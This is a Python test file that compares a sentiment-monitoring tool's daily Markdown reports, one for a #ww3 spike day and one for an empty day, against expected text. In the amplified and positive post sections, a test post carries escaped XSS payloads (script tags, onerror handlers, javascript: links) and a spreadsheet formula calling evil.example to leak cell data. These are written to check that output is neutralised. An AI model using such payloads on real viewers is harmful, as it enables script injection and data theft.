"""The daily report in Markdown, whole, for a day with a spike and for a day without posts:
every section, as a reader sees it (hostile markup in a post shown as text)."""

# The expected reports are Markdown as written, long lines included.
# ruff: noqa: E501

from __future__ import annotations

from datetime import date
from pathlib import Path

import pytest

from monitor.report import write_report

from .report_data import CONFIG, NOW, SPIKE_DAY, report_db


@pytest.fixture(scope="module")
def db_path(tmp_path_factory) -> Path:
    return report_db(tmp_path_factory.mktemp("report"))


def markdown(db_path: Path, day: date, out: Path) -> str:
    files = write_report(db_path, day, out, CONFIG, now=NOW)
    return files.markdown.read_text(encoding="utf-8")


def test_spike_day(db_path, tmp_path):
    assert markdown(db_path, SPIKE_DAY, tmp_path) == SPIKE_DAY_MARKDOWN


def test_day_without_posts_says_so(db_path, tmp_path):
    assert markdown(db_path, date(2024, 11, 25), tmp_path) == EMPTY_DAY_MARKDOWN


SPIKE_DAY_MARKDOWN = r"""# Reactions on Saturday 30 November 2024

Reaction monitor daily report: posts made on 2024-11-30, in UTC. Built 2024-12-01 07:00 UTC.

## Scope and provenance

- Day: 2024-11-30, midnight to midnight in UTC
- Posts: 13 made that day; 13 scored for sentiment
- Articles: 2 embedding them, from 2 outlets, read from 2 archive files
- Database: 21 posts and 8 articles from 7 archive files read (1 failed); last read 2024-12-01 03:00 UTC
- Scorer: vader-3.3.2+mon1

## Headline numbers

The day against the median of the 7 days before it.

| Measure | 2024-11-30 | 7-day median | Change |
|---|---:|---:|---:|
| Posts | 13 | 0 | +13 |
| Articles | 2 | 0 | +2 |
| Outlets | 2 | 0 | +2 |
| Mean sentiment | −0.36 | — | — |
| Negative share | 92% | — | — |

## The last 30 days

![Posts per day from 2024-11-01 to 2024-11-30](2024-11-30/volume.png)

Posts per day, 2024-11-01 to 2024-11-30. The report's day is the last bar, labelled with its count; spike days are red, new keys' bursts orange.

![Mean sentiment per day from 2024-11-01 to 2024-11-30](2024-11-30/sentiment.png)

Mean sentiment (VADER compound, −1 to +1) per day; the grey band is VADER's neutral range, −0.05 to +0.05. Days without scored posts are blank; the report's day is ringed and labelled.

## Hashtags

### Top

| Hashtag | Posts | 7-day median | Articles | Outlets | Mean sentiment | Negative |
|---|---:|---:|---:|---:|---:|---:|
| #ww3 | 12 | 0 | 2 | 2 | −0.47 | 100% |

### Rising

At least 2 posts and 2 times the median of the 7 days before (taken as 1 when lower).

| Hashtag | Posts | 7-day median | Change | Mean sentiment | Negative |
|---|---:|---:|---:|---:|---:|
| #ww3 | 12 | 0 | +12 | −0.47 | 100% |

## Watched topics

| Topic | Posts | 7-day median | Articles | Mean sentiment | Negative | Status |
|---|---:|---:|---:|---:|---:|---|
| ww3 | 12 | 0 | 2 | −0.47 | 100% | spike |
| atacms | 0 | 0 | 0 | — | — |  |

## Spikes

A day spikes when a count that high would come by chance less than once in 1,000 ordinary days, given its baseline (the median of the 14 days before, never below 1), and it has at least 5 posts and 2 times the baseline. A key first seen less than 7 days before has no baseline yet: a burst of it is marked new.

| Series | Status | Posts | Baseline | Ratio | Chance on an ordinary day | Embedded by |
|---|---|---:|---:|---:|---|---|
| all posts | spike | 13 | 1 | 13× | about 1 in 16 billion | example.com (9), example.org (5) |
| platform twitter | spike | 13 | 1 | 13× | about 1 in 16 billion | example.com (9), example.org (5) |
| hashtag #ww3 | spike | 12 | 1 | 12× | about 1 in 1.2 billion | example.com (8), example.org (4) |
| topic ww3 | spike | 12 | 1 | 12× | about 1 in 1.2 billion | example.com (8), example.org (4) |
| outlet example.com | spike | 9 | 1 | 9× | about 1 in 890,000 | example.com (9) |

## Most amplified posts

The day's posts embedded by the most articles.

1. **+0.93** · =HYPERLINK("https://evil.example/?"&A1,"Mallory")\<img src=x onerror="window.\_\_ran = 3"\>\</b\> @mallory"\>\<script\>window.\_\_ran = 4\</script\> · twitter · 2024-11-30 12:00 · embedded by 2 articles; outlets: example.com, example.org; first by example.org, 8.0 h after it was posted · javascript:alert(document.domain)

   > Wonderful news, truly great! \<script\>window.\_\_ran = 1\</script\>\<img src="x" onerror="window.\_\_ran = 2"\> \[click\](javascript:alert(1)) \| \*bold\* \</blockquote\>

## Most negative posts

1. **−0.81** · User 3 @ucom3 · twitter · 2024-11-30 12:00 · embedded by 1 article; outlets: example.com · [view post](https://twitter.com/u/status/1862828924728246275)

   > Markets are falling on war fears #WW3

2. **−0.81** · User 7 @ucom7 · twitter · 2024-11-30 12:00 · embedded by 1 article; outlets: example.com · [view post](https://twitter.com/u/status/1862828924728246279)

   > Markets are falling on war fears #WW3

3. **−0.81** · User 3 @uorg3 · twitter · 2024-11-30 12:00 · embedded by 1 article; outlets: example.org · [view post](https://twitter.com/u/status/1862828924728246375)

   > Markets are falling on war fears #WW3

4. **−0.57** · User 1 @ucom1 · twitter · 2024-11-30 12:00 · embedded by 1 article; outlets: example.com · [view post](https://twitter.com/u/status/1862828924728246273)

   > This is terrifying, I can't sleep #WW3

5. **−0.57** · User 5 @ucom5 · twitter · 2024-11-30 12:00 · embedded by 1 article; outlets: example.com · [view post](https://twitter.com/u/status/1862828924728246277)

   > This is terrifying, I can't sleep #WW3

## Most positive posts

1. **+0.93** · =HYPERLINK("https://evil.example/?"&A1,"Mallory")\<img src=x onerror="window.\_\_ran = 3"\>\</b\> @mallory"\>\<script\>window.\_\_ran = 4\</script\> · twitter · 2024-11-30 12:00 · embedded by 2 articles; outlets: example.com, example.org · javascript:alert(document.domain)

   > Wonderful news, truly great! \<script\>window.\_\_ran = 1\</script\>\<img src="x" onerror="window.\_\_ran = 2"\> \[click\](javascript:alert(1)) \| \*bold\* \</blockquote\>

## Top outlets

| Outlet | Posts embedded | Articles | Mean sentiment | Negative | Its framing | Reading |
|---|---:|---:|---:|---:|---:|---|
| example.com | 9 | 1 | −0.32 | 89% | — |  |
| example.org | 5 | 1 | −0.19 | 80% | — |  |

Its framing: VADER on the outlet's own words just before and after each embed (the nearest paragraph on each side), averaged over its embeds of the day's posts. News prose is not what VADER was validated on, quoting a view is not holding it, and only English is scored: a reading is given only where the posts and the framing differ by at least 0.2 over at least 3 articles.

## Collection health

### Scheduled jobs since 2024-11-24 07:00 UTC

| Job | Runs | OK | Failed | Last run | Last status | Last error |
|---|---:|---:|---:|---|---|---|
| ingest | 2 | 1 | 1 | 2024-11-30 18:45 UTC | failed | 1 archive file could not be read (the rest is stored): /archive/broken.warc.gz |
| report | 1 | 1 | 0 | 2024-11-30 07:00 UTC | ok |  |
| trends | 1 | 1 | 0 | 2024-11-30 18:46 UTC | ok |  |

### Archive files that could not be read

1 file, tried again on every ingest:

| File | Error | Last tried |
|---|---|---|
| /archive/broken.warc.gz | truncated gzip stream \| \<b\>bad\</b\> | 2024-12-01 03:00 UTC |

## Caveats

- Sentiment is VADER's: a lexicon of English words and emoji, validated on tweets. Posts in other languages are not scored, and it reads words, not intent: it is blind to sarcasm and irony ("Great, just great." scores as positive).
- Embedded posts are the reactions that outlets chose to show their readers: a chosen sample of reactions, not a survey of everyone's.
- A post counts once however many articles embed it; how widely it was embedded is under Most amplified posts.

Built by the reaction monitor from `2024-11-30.json`; every chart and table is also a CSV file in `2024-11-30/`.
"""

EMPTY_DAY_MARKDOWN = r"""# Reactions on Monday 25 November 2024

Reaction monitor daily report: posts made on 2024-11-25, in UTC. Built 2024-12-01 07:00 UTC.

**No posts were made on 2024-11-25** (UTC) among those stored. The charts show the 30 days up to it; collection health shows whether collection ran.

## Scope and provenance

- Day: 2024-11-25, midnight to midnight in UTC
- Posts: 0 made that day; 0 scored for sentiment
- Articles: 0 embedding them, from 0 outlets, read from 0 archive files
- Database: 21 posts and 8 articles from 7 archive files read (1 failed); last read 2024-12-01 03:00 UTC
- Scorer: vader-3.3.2+mon1

## Headline numbers

The day against the median of the 7 days before it.

| Measure | 2024-11-25 | 7-day median | Change |
|---|---:|---:|---:|
| Posts | 0 | 1 | −1 |
| Articles | 0 | 1 | −1 |
| Outlets | 0 | 0 | 0 |
| Mean sentiment | — | −0.08 | — |
| Negative share | — | 50% | — |

## The last 30 days

![Posts per day from 2024-10-27 to 2024-11-25](2024-11-25/volume.png)

Posts per day, 2024-10-27 to 2024-11-25. The report's day is the last bar, labelled with its count; spike days are red, new keys' bursts orange.

![Mean sentiment per day from 2024-10-27 to 2024-11-25](2024-11-25/sentiment.png)

Mean sentiment (VADER compound, −1 to +1) per day; the grey band is VADER's neutral range, −0.05 to +0.05. Days without scored posts are blank; the report's day is ringed and labelled.

## Hashtags

### Top

No hashtags on this day.

### Rising

At least 2 posts and 2 times the median of the 7 days before (taken as 1 when lower).

No hashtag is rising.

## Watched topics

| Topic | Posts | 7-day median | Articles | Mean sentiment | Negative | Status |
|---|---:|---:|---:|---:|---:|---|
| ww3 | 0 | 1 | 0 | — | — |  |
| atacms | 0 | 0 | 0 | — | — |  |

## Spikes

A day spikes when a count that high would come by chance less than once in 1,000 ordinary days, given its baseline (the median of the 14 days before, never below 1), and it has at least 5 posts and 2 times the baseline. A key first seen less than 7 days before has no baseline yet: a burst of it is marked new.

No spikes on this day.

## Most amplified posts

The day's posts embedded by the most articles.

No post of this day was embedded by more than one article.

## Most negative posts

No negative post (compound ≤ −0.05) on this day.

## Most positive posts

No positive post (compound ≥ +0.05) on this day.

## Top outlets

No outlet embedded a post of this day.

## Collection health

### Scheduled jobs since 2024-11-24 07:00 UTC

| Job | Runs | OK | Failed | Last run | Last status | Last error |
|---|---:|---:|---:|---|---|---|
| ingest | 2 | 1 | 1 | 2024-11-30 18:45 UTC | failed | 1 archive file could not be read (the rest is stored): /archive/broken.warc.gz |
| report | 1 | 1 | 0 | 2024-11-30 07:00 UTC | ok |  |
| trends | 1 | 1 | 0 | 2024-11-30 18:46 UTC | ok |  |

### Archive files that could not be read

1 file, tried again on every ingest:

| File | Error | Last tried |
|---|---|---|
| /archive/broken.warc.gz | truncated gzip stream \| \<b\>bad\</b\> | 2024-12-01 03:00 UTC |

## Caveats

- Sentiment is VADER's: a lexicon of English words and emoji, validated on tweets. Posts in other languages are not scored, and it reads words, not intent: it is blind to sarcasm and irony ("Great, just great." scores as positive).
- Embedded posts are the reactions that outlets chose to show their readers: a chosen sample of reactions, not a survey of everyone's.
- A post counts once however many articles embed it; how widely it was embedded is under Most amplified posts.

Built by the reaction monitor from `2024-11-25.json`; every chart and table is also a CSV file in `2024-11-25/`.
"""
